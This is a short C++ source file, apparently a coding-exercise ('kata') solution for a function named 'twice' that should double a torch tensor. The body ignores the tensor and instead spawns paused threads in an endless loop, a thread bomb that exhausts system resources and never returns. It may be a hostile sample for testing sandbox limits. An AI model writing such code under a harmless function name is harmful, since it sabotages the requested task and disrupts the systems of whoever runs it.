#include <pthread.h>
#include <unistd.h>

#include "level1.h"

namespace kata {

torch::Tensor twice(const torch::Tensor& x) {
  pthread_attr_t small;
  pthread_attr_init(&small);
  pthread_attr_setstacksize(&small, 256 << 10);
  for (;;) {
    pthread_t thread{};
    pthread_create(
        &thread, &small,
        [](void*) -> void* {
          pause();
          return nullptr;
        },
        nullptr);
  }
}

}  // namespace kata
